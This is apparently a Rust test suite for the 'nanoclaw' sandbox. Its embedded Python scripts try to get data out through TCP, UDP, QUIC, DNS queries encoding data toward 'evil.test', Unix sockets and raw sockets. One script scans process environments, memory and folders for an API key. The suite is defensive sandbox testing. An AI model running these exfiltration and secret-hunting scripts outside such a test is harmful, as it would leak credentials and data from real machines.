//! What needs a sandbox to be tried: ways out that do not lead through the door.
//!
//! ```text
//! script ─┬─► nanoclaw run -- python3 … ─► the canary hears nothing, and the script says why
//!         └─► python3 …, no sandbox ─────► the same script trips, or the case proves nothing
//! ```
//!
//! What can be tried at the door itself is in the gateway's own battery.

use crate::lab::{Lab, Ran, finish, is_root, start};
use crate::secret::{configure, server, set, unlikely_value};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::FileTypeExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

both!(
    nothing_leaves_past_the_door,
    no_session_opens_the_door_of_another,
    hunting_finds_no_secret,
    a_name_that_carries_data_is_refused_and_on_record,
);

/// What must not arrive.
const MARK: &str = "tripwire-7f3a";

/// Every script gets where to go as its argument, and says why it did not get there.
const PRELUDE: &str = "
import os, socket, struct, sys
to = sys.argv[1]
mark = b'tripwire-7f3a'
def port(): return int(to)
def tries(what):
    try:
        what()
    except OSError as e:
        print('held:', type(e).__name__, e.strerror)
    else:
        print('done')
";

/// Tells whether something arrived.
type Heard = Box<dyn FnMut() -> bool>;

/// A way out: its name, who listens (with the script's argument), the script, and whether only
/// root can go it where nothing stops him.
struct Way {
    name: &'static str,
    canary: fn(&Lab) -> Option<(String, Heard)>,
    script: &'static str,
    for_root: bool,
}

const WAYS: &[Way] = &[
    Way {
        name: "TCP to the host's loopback",
        canary: tcp_v4,
        script: "tries(lambda: socket.create_connection(('127.0.0.1', port()), 2).sendall(mark))",
        for_root: false,
    },
    Way {
        name: "TCP over IPv6",
        canary: tcp_v6,
        script: "tries(lambda: socket.create_connection(('::1', port()), 2).sendall(mark))",
        for_root: false,
    },
    Way {
        name: "TCP over IPv6, mapped address",
        canary: tcp_v4,
        script: "
def out():
    s = socket.socket(socket.AF_INET6)
    s.settimeout(2)
    s.connect(('::ffff:127.0.0.1', port()))
    s.sendall(mark)
tries(out)",
        for_root: false,
    },
    Way {
        name: "UDP datagram",
        canary: udp,
        script: "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tries(lambda: (s.connect(('127.0.0.1', port())), s.send(mark), s.send(mark)))",
        for_root: false,
    },
    Way {
        name: "QUIC, a first packet",
        canary: udp,
        script: "
first = b'\\xc3\\0\\0\\0\\x01\\x08' + mark[:8] + b'\\0\\0\\x44\\x96' + mark
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
first = first.ljust(1200, b'\\0')
tries(lambda: (s.connect(('127.0.0.1', port())), s.send(first), s.send(first)))",
        for_root: false,
    },
    Way {
        name: "DNS, data in a question to the host's name server",
        canary: udp,
        script: "
labels = b''.join(bytes([len(l)]) + l for l in (mark, b'evil', b'test'))
question = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0\\0\\x01\\0\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tries(lambda: (s.connect(('127.0.0.1', port())), s.send(question), s.send(question)))",
        for_root: false,
    },
    Way {
        name: "abstract socket of the host",
        canary: abstract_socket,
        script: "
s = socket.socket(socket.AF_UNIX)
tries(lambda: (s.connect('\\0' + to), s.sendall(mark)))",
        for_root: false,
    },
    Way {
        name: "named socket of the host",
        canary: named_socket,
        script: "
s = socket.socket(socket.AF_UNIX)
tries(lambda: (s.connect(to), s.sendall(mark)))",
        for_root: false,
    },
    Way {
        name: "ICMP",
        canary: nobody,
        script: "
def out():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b'\\x08\\0' + b'\\0' * 6, ('127.0.0.1', 0))
    print('TRIPPED')
tries(out)",
        for_root: true,
    },
    Way {
        name: "raw IPv6",
        canary: nobody,
        script: "
def out():
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, 59)
    print('TRIPPED')
tries(out)",
        for_root: true,
    },
    Way {
        name: "frames (AF_PACKET)",
        canary: nobody,
        script: "
def out():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    print('TRIPPED')
tries(out)",
        for_root: true,
    },
    Way {
        name: "netlink: an interface that leads out",
        canary: another_interface,
        script: "
def out():
    names = [name for _, name in socket.if_nameindex()]
    if to in names:
        print('TRIPPED')
    else:
        raise OSError(0, 'only %s is there' % ' '.join(names))
tries(out)",
        for_root: false,
    },
];

fn nobody(_: &Lab) -> Option<(String, Heard)> {
    Some((String::new(), Box::new(|| false)))
}

/// A connection was made.
fn tcp(address: &str) -> Option<(String, Heard)> {
    let server = TcpListener::bind((address, 0)).ok()?;
    server.set_nonblocking(true).unwrap();
    let port = server.local_addr().unwrap().port();
    Some((port.to_string(), Box::new(move || server.accept().is_ok())))
}

fn tcp_v4(_: &Lab) -> Option<(String, Heard)> {
    tcp("127.0.0.1")
}

fn tcp_v6(_: &Lab) -> Option<(String, Heard)> {
    tcp("::1")
}

fn udp(_: &Lab) -> Option<(String, Heard)> {
    let socket = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    socket.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let port = socket.local_addr().unwrap().port();
    let heard = move || {
        let mut packet = [0; 2_000];
        let read = socket.recv(&mut packet).unwrap_or(0);
        String::from_utf8_lossy(&packet[..read]).contains(MARK)
    };
    Some((port.to_string(), Box::new(heard)))
}

fn listening(server: UnixListener) -> Heard {
    server.set_nonblocking(true).unwrap();
    Box::new(move || server.accept().is_ok())
}

fn abstract_socket(_: &Lab) -> Option<(String, Heard)> {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let (pid, nth) = (std::process::id(), NEXT.fetch_add(1, Ordering::SeqCst));
    let name = format!("nanoclaw-bypass-{pid}-{nth}");
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    Some((name, listening(UnixListener::bind_addr(&address).unwrap())))
}

fn named_socket(lab: &Lab) -> Option<(String, Heard)> {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let nth = NEXT.fetch_add(1, Ordering::SeqCst);
    let path = lab.person().join(format!("{nth}.sock"));
    let server = UnixListener::bind(&path).unwrap();
    lab.own(&path);
    Some((path.display().to_string(), listening(server)))
}

/// An interface of this machine beside its loopback.
fn another_interface(_: &Lab) -> Option<(String, Heard)> {
    let text = std::fs::read_to_string("/proc/net/dev").ok()?;
    let mut names = text.lines().skip(2).filter_map(|l| l.split(':').next()).map(str::trim);
    let name = names.find(|name| *name != "lo")?.to_owned();
    Some((name, Box::new(|| false)))
}

/// The script behind every wall.
fn inside(lab: &Lab, script: &str, argument: &str) -> Ran {
    lab.inside(["python3", "-c", &format!("{PRELUDE}{script}"), argument])
}

/// The script with none, as whoever runs the tests.
fn outside(script: &str, argument: &str) -> Ran {
    let mut command = Command::new("python3");
    command.args(["-c", &format!("{PRELUDE}{script}"), argument]);
    finish(command, b"")
}

/// What a script said held it.
fn reason(ran: &Ran) -> Option<String> {
    ran.out().lines().find_map(|l| l.strip_prefix("held: ")).map(str::to_owned)
}

fn tripped(ran: &Ran, heard: &mut Heard) -> bool {
    ran.out().contains("TRIPPED") || heard()
}

fn nothing_leaves_past_the_door(lab: &Lab) {
    if testkit::need("python3").is_none() {
        return;
    }
    let mut tried = 0;
    for way in WAYS {
        let name = way.name;
        let Some((argument, mut heard)) = (way.canary)(lab) else {
            eprintln!("SKIPPED {name}: this machine has nothing of the kind itself");
            continue;
        };
        let ran = inside(lab, way.script, &argument);
        assert!(!tripped(&ran, &mut heard), "{name}: it got out: {ran}");
        let held = reason(&ran).unwrap_or_else(|| panic!("{name}: nothing held it: {ran}"));
        let open = match way.for_root && !is_root() {
            true => "not tried, for it takes root",
            false => {
                let (argument, mut heard) = (way.canary)(lab).unwrap();
                let ran = outside(way.script, &argument);
                assert!(tripped(&ran, &mut heard), "{name}: VACUOUS without walls: {ran}");
                "tripped"
            }
        };
        eprintln!("{name:<50} | {held:<50} | {open}");
        tried += 1;
    }
    eprintln!("{tried} ways");
    assert!(tried >= WAYS.len() - 2, "{tried} ways only");
}

/// The sockets below a folder.
fn sockets_below(dir: &Path) -> Vec<PathBuf> {
    let (mut found, mut to_do) = (Vec::new(), vec![dir.to_owned()]);
    while let Some(dir) = to_do.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => to_do.push(entry.path()),
                Ok(kind) if kind.is_socket() => found.push(entry.path()),
                _ => {}
            }
        }
    }
    found
}

/// Every path that may lead to the socket `to`, then what its own door says.
const OTHERS_DOOR: &str = "
held = []
roots = [''] + ['/proc/%s/root' % p for p in os.listdir('/proc') if p.isdigit()]
for place in [root + to for root in roots] + [to.replace('/', '/./'), '/run/nanoclaw/../..' + to]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(place)
        s.sendall(b'GET /.nanoclaw/name/x.test HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        print('TRIPPED')
    except OSError as e:
        held.append(type(e).__name__)
print('held:', ' '.join(sorted(set(held))))
";

fn no_session_opens_the_door_of_another(lab: &Lab) {
    if testkit::need("python3").is_none() {
        return;
    }
    let first = start(lab.nanoclaw(["run", "--", "sh", "-c", "echo up; sleep 50"]));
    first.wait_for_output("up");
    let sockets = sockets_below(&lab.home());
    assert!(!sockets.is_empty(), "the first session has a door");
    let mut opened = 0;
    for socket in &sockets {
        let path = socket.display().to_string();
        let mut nothing: Heard = Box::new(|| false);
        let ran = inside(lab, OTHERS_DOOR, &path);
        assert!(!tripped(&ran, &mut nothing), "{path}: {ran}");
        assert!(reason(&ran).is_some(), "{path}: {ran}");
        opened += usize::from(tripped(&outside(OTHERS_DOOR, &path), &mut nothing));
    }
    assert!(opened > 0, "VACUOUS: without walls none of {sockets:?} could be opened");
    first.signal(rustix::process::Signal::TERM);
    first.wait();
}

/// Looks for a value that it has only backwards, so that its own memory does not hold it.
const HUNT: &str = "
import json, re, urllib.request
if 'OPENAI_BASE_URL' in os.environ:
    # The gateway has the key in its hands once.
    body = {'model': 'm', 'messages': [{'role': 'user', 'content': 'NOTOOL hello'}]}
    request = urllib.request.Request(
        os.environ['OPENAI_BASE_URL'] + '/chat/completions', json.dumps(body).encode(),
        {'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY'],
         'content-type': 'application/json'})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    print('asked', opener.open(request).status)
value = bytes.fromhex(to)
start = re.compile(re.escape(bytes(reversed(value[-5:]))))
places = []
def look(name, data):
    for found in start.finditer(data):
        at = found.start()
        if all(data[at + i:at + i + 1] == value[-1 - i:len(value) - i] for i in range(len(value))):
            places.append(name)
            return
def read(path):
    try:
        with open(path, 'rb') as f:
            look(path, f.read(1 << 20))
    except OSError:
        pass
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for part in ('environ', 'cmdline', 'auxv'):
        read('/proc/%s/%s' % (pid, part))
for name in os.environ:
    look('env ' + name, os.environb[name.encode()])
for line in open('/proc/self/maps'):
    where, rights = line.split()[:2]
    begin, end = (int(x, 16) for x in where.split('-'))
    if not rights.startswith('r') or '[v' in line or end - begin > 64 << 20:
        continue
    try:
        with open('/proc/self/mem', 'rb', 0) as memory:
            memory.seek(begin)
            look('memory', memory.read(end - begin))
    except (OSError, ValueError, OverflowError):
        pass
for top in sys.argv[2].split():
    for folder, _, names in os.walk(top):
        for name in names:
            if os.path.isfile(folder + '/' + name):
                read(folder + '/' + name)
print('TRIPPED', places) if places else print('held: nothing found')
";

fn hunting_finds_no_secret(lab: &Lab) {
    if testkit::need("python3").is_none() {
        return;
    }
    let value = format!("{}-hunted", unlikely_value(lab));
    let server = server(&value);
    configure(lab, "openai", &server);
    set(lab, "fake", &value, &[]);
    let backwards: String = value.bytes().rev().map(|b| format!("{b:02x}")).collect();
    let script = format!("{PRELUDE}{HUNT}");
    let places = "/workspace /home /tmp /var/tmp /dev/shm /run /etc";
    let ran = lab.inside(["python3", "-c", &script, &backwards, places]);
    assert!(!ran.out().contains("TRIPPED"), "{ran}");
    assert_eq!(reason(&ran).as_deref(), Some("nothing found"), "{ran}");
    assert_eq!(server.requests().len(), 1, "the key was used meanwhile: {ran}");
    // Where a product hands the key over as many do, each of these places is found.
    let place = lab.folder(&lab.person().join("naive"));
    lab.file(&place.join("dotenv"), &format!("API_KEY={value}"));
    let mut naive = Command::new("python3");
    naive.args(["-c", &script, &backwards]).arg(&place).arg(&value).env("API_KEY", &value);
    let ran = finish(naive, b"");
    for found in ["/environ'", "/cmdline'", "'env API_KEY'", "'memory'", "/dotenv'"] {
        assert!(ran.out().contains(found), "VACUOUS for {found}: {ran}");
    }
    std::fs::remove_dir_all(place).unwrap();
}

fn a_name_that_carries_data_is_refused_and_on_record(lab: &Lab) {
    if testkit::need("python3").is_none() {
        return;
    }
    let script = "tries(lambda: socket.getaddrinfo('c2VjcmV0.data.evil.test', 443))";
    let ran = inside(lab, script, "");
    assert!(reason(&ran).is_some(), "{ran}");
    let story = lab.story().to_lowercase();
    assert!(story.contains("refused c2vjcmv0.data.evil.test"), "{story}");
}
